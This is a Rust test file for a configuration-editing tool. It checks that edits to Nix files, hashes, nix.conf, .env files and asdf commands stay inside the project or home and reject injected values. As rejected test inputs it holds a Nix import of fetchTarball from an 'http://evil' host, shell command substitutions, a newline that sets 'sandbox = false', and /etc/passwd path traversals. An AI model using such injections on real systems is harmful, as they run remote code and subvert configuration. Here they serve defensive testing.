use crate::plan::Step;
use crate::plan::tests::{prepared, project};

const FILES: &str = "  /home/user/app/a.nix: \"{ a = s.word; b = word; }\"\n  \
                     /home/user/app/.x/a.nix: \"{ a = s.word; }\"\n  \
                     /home/user/app/b.txt: \"word = s.word\"\n";

/// The names of the files that would be edited with what they would hold, or what is in the way.
fn edited(files: &str, edit: &str, captures: &[(&str, &str)]) -> Result<Vec<(String, String)>, String> {
    let treatment = prepared(&project(files), &format!("edit: {{{edit}}}"), captures);
    match (treatment.obstacle, treatment.step) {
        (Some(obstacle), _) => Err(obstacle.why().to_owned()),
        (None, Step::Edit(edits)) => Ok(edits.into_iter().map(|edit| (edit.name, edit.after)).collect()),
        (None, other) => panic!("{other:?}"),
    }
}

fn one(name: &str, after: &str) -> Result<Vec<(String, String)>, String> {
    Ok(vec![(name.to_owned(), after.to_owned())])
}

#[test]
fn an_attribute_is_corrected_in_a_nix_file_of_the_project_alone() {
    let edit = |file: &str, right: &str| {
        let keys =
            "kind: nix-attribute, find: word, replace: \"${right}\", in: [\"${file}\"], line: 1, column: 7";
        edited(FILES, keys, &[("file", file), ("right", right)])
    };
    assert_eq!(edit("a.nix", "words"), one("a.nix", "{ a = s.words; b = word; }"));
    let why = edit("a.nix", "x=1;y=(import(builtins.fetchTarball(\"http://evil\")))").unwrap_err();
    assert!(why.contains("too unlike"), "{why}");
    for file in [".git/config", ".x/a.nix", "b.txt", "*.nix", "a*.nix", "../../../etc/passwd", "/etc/passwd"]
    {
        edit(file, "words").unwrap_err();
    }
}

#[test]
fn a_word_is_replaced_anywhere_but_in_git_and_outside() {
    let edit = |file: &str| {
        let keys = "find: \" word\", replace: \"${right}\", in: [\"${file}\"]";
        edited(FILES, keys, &[("file", file), ("right", " sword")])
    };
    assert_eq!(edit("a.nix"), one("a.nix", "{ a = s.word; b = sword; }"));
    for file in [".git/config", "*.nix", "**/*.nix", "../../../etc/passwd"] {
        edit(file).unwrap_err();
    }
}

const ZERO: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
const OLD: &str = "sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=";
const NEW: &str = "sha256-WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM=";

#[test]
fn a_hash_gives_way_to_a_hash_alone_and_where_hashes_stand() {
    let files =
        ["a.nix", "flake.lock", "b.txt"].map(|name| format!("  /home/user/app/{name}: '{OLD}'\n")).concat();
    let edit = |new: &str| {
        let keys =
            "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [\"*.nix\", \"*.txt\", flake.lock]";
        edited(&files, keys, &[("old", OLD), ("new", new)])
    };
    let names: Vec<_> = edit(NEW).unwrap().into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["a.nix", "flake.lock"]);
    for new in ["$(touch x)", "\"; x = import ./y; z = \"", "--option", &"A".repeat(1 << 20), ""] {
        edit(new).unwrap_err();
    }
}

#[test]
fn the_places_of_a_placeholder_are_told() {
    let nix = format!("\"a = '{ZERO}';\\nb = '{ZERO}';\"");
    let files = ["a.nix", "b.nix"].map(|name| format!("  /home/user/app/{name}: {nix}\n")).concat();
    let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [a.nix]";
    let captures = [("old", ZERO), ("new", NEW)];
    let why = edited(&files, keys, &captures).unwrap_err();
    assert!(why.contains("stands at a.nix:1 and a.nix:2") && why.contains(NEW), "{why}");
    let all = keys.replace("a.nix", "\"*.nix\"");
    let why = edited(&files, &all, &captures).unwrap_err();
    assert!(why.contains("a.nix:1, a.nix:2, b.nix:1 and b.nix:2"), "{why}");
}

const HOME: &str = "env: {HOME: /home/user}\n";
const SET: &str = "kind: set, in: [\"~/.config/nix/nix.conf\"], key: experimental-features, \
                   value: [nix-command, \"${feature}\"], append: true, create: true";

fn set_features(machine: &str, feature: &str) -> Result<Vec<(String, String)>, String> {
    edited(machine, SET, &[("feature", feature)])
}

#[test]
fn a_file_of_the_home_is_edited_or_made() {
    let name = "~/.config/nix/nix.conf";
    let line = "extra-experimental-features = nix-command flakes\n";
    assert_eq!(set_features(HOME, "flakes"), one(name, line));
    let file = "  /home/user/.config/nix/nix.conf: 'cores = 4'\n";
    let after = format!("cores = 4\n{line}");
    assert_eq!(set_features(&format!("{file}{HOME}"), "flakes"), one(name, &after));
    let elsewhere = "env: {HOME: /home/user, XDG_CONFIG_HOME: /home/user/etc}\n";
    assert_eq!(set_features(elsewhere, "flakes"), one("~/etc/nix/nix.conf", line));
    let why = set_features("env: {HOME: home}\n", "flakes").unwrap_err();
    assert!(why.contains("HOME is not set"), "{why}");
    for feature in ["a b", "a\nsandbox = false", "#x", "", &"A".repeat(1 << 20)] {
        set_features(HOME, feature).unwrap_err();
    }
}

#[test]
fn what_is_made_is_all_new() {
    let edit = |machine: &str| prepared(&project(machine), &format!("edit: {{{SET}}}"), &[("feature", "x")]);
    let Step::Edit(edits) = edit(HOME).step else { panic!() };
    assert_eq!(edits[0].before, None);
    assert_eq!(edits[0].path.to_str(), Some("/home/user/.config/nix/nix.conf"));
    assert!(edits[0].diff().contains("+extra-experimental-features = nix-command x"));
}

#[test]
fn links_are_followed_within_the_home_alone() {
    let linked = |end: &str| {
        let files = format!("  {end}: 'cores = 4'\n");
        let link = format!("links: {{/home/user/.config/nix/nix.conf: {end}}}\n{HOME}");
        set_features(&format!("{files}{link}"), "flakes")
    };
    linked("/home/user/dotfiles/nix.conf").unwrap();
    let why = linked("/srv/nix.conf").unwrap_err();
    assert!(why.contains("leads out of the home"), "{why}");
    let why = linked("/nix/store/abc-home-manager-files/nix.conf").unwrap_err();
    assert!(why.contains("home-manager or NixOS"), "{why}");
    let (one, other) = ("/home/user/.config/nix/nix.conf", "/home/user/other");
    let nowhere = format!("links: {{{one}: {other}, {other}: {one}}}\n");
    let why = set_features(&format!("{nowhere}{HOME}"), "flakes").unwrap_err();
    assert!(why.contains("leads nowhere"), "{why}");
    let folder = "  /srv/nix/other: x\nlinks: {/home/user/.config/nix: /srv/nix}\n";
    let why = set_features(&format!("{folder}{HOME}"), "flakes").unwrap_err();
    assert!(why.contains("leads out of the home"), "{why}");
    let whole = "  /data/u/.config/x: x\nlinks: {/home/user: /data/u}\n";
    set_features(&format!("{whole}{HOME}"), "flakes").unwrap();
}

#[test]
fn a_key_is_set_wherever_it_stands() {
    let files = "  /home/user/app/.env: 'N=5'\n  /home/user/app/.envrc: 'export N=\"5\"'\n";
    let keys = "kind: set, in: [.env, .envrc, mise.toml], key: N, value: \"${n}\", add: false";
    let set = |files: &str, n: &str| edited(files, keys, &[("n", n)]);
    let both = [(".env", "N=1"), (".envrc", "export N=\"1\"")];
    let both: Vec<_> = both.map(|(name, after)| (name.to_owned(), after.to_owned())).into();
    assert_eq!(set(files, "1"), Ok(both));
    for n in ["1\nA=2", "$(touch x)\u{1b}", &"1".repeat(1 << 20)] {
        set(files, n).unwrap_err();
    }
    let two = keys.replace("key: N", "key: [N, M]");
    let after = edited("  /home/user/app/.env: \"N=5\\nA=2\\nM=7\"\n", &two, &[("n", "1")]);
    assert_eq!(after, one(".env", "N=1\nA=2\nM=1"));
    let quoted = set("  /home/user/app/.env: 'N=5'\n", "$(touch x); A=2");
    assert_eq!(quoted, one(".env", "N='$(touch x); A=2'"));
    let why = set("  /home/user/app/.env: 'A=5'\n", "1").unwrap_err();
    assert!(why.contains("`N` stands otherwise in none"), "{why}");
}

#[test]
fn a_file_of_the_project_is_made_below_it() {
    let keys = "kind: set, in: [sub/.tool-versions], key: elixir, value: \"1.18\", create: true";
    assert_eq!(edited("", keys, &[]), one("sub/.tool-versions", "elixir 1.18\n"));
    for file in ["../x/.env", ".git/.env", "/etc/.env", "out/.env"] {
        let keys = keys.replace("sub/.tool-versions", file);
        edited("  /srv/x: x\nlinks: {/home/user/app/out: /srv}\n", &keys, &[]).unwrap_err();
    }
    let none = keys.replace(", create: true", "");
    edited("", &none, &[]).unwrap_err();
}

#[test]
fn the_line_that_was_quoted_becomes_a_comment() {
    let files = "  /home/user/.config/nix/nix.conf: \"a = 1\\ncores=3 # x\\n\"\n";
    let keys = "kind: comment, find: \"${line}\", in: [\"~/.config/nix/nix.conf\"]";
    let comment = |line: &str| edited(&format!("{files}{HOME}"), keys, &[("line", line)]);
    assert_eq!(comment("cores=3"), one("~/.config/nix/nix.conf", "a = 1\n# cores=3 # x\n"));
    for line in ["cores", "a = 1\ncores=3", "", "x"] {
        comment(line).unwrap_err();
    }
}

#[test]
fn commands_of_asdf_are_corrected_in_scripts() {
    let files = "  /home/user/app/.envrc: \"use nix\\r\\nasdf local elixir 1.17.3 # é\\r\\n\"\n  \
                 /home/user/app/bin/a: \"asdf set erlang 27\\nasdf elixir local 1.17\\n\"\n";
    let keys = "kind: asdf-command, version: \"${version}\", in: [.envrc, \"bin/*\"]";
    let correct = |version: &str| edited(files, keys, &[("version", version)]);
    let expect = |edits: &[(&str, &str)]| {
        Ok(edits.iter().map(|&(name, after)| (name.to_owned(), after.to_owned())).collect::<Vec<_>>())
    };
    let envrc = (".envrc", "use nix\r\nasdf set elixir 1.17.3 # é\r\n");
    assert_eq!(correct("0.18.0"), expect(&[envrc, ("bin/a", "asdf set erlang 27\nasdf set elixir 1.17\n")]));
    assert_eq!(correct("0.15.0"), expect(&[("bin/a", "asdf local erlang 27\nasdf local elixir 1.17\n")]));
    let shell = format!("{files}  /home/user/app/bin/b: \"asdf shell elixir 1.17\"\n");
    let why = edited(&shell, keys, &[("version", "0.18.0")]).unwrap_err();
    assert!(why.contains("bin/b has `asdf shell elixir 1.17`"), "{why}");
    for version in ["new", "; touch x"] {
        correct(version).unwrap_err();
    }
}
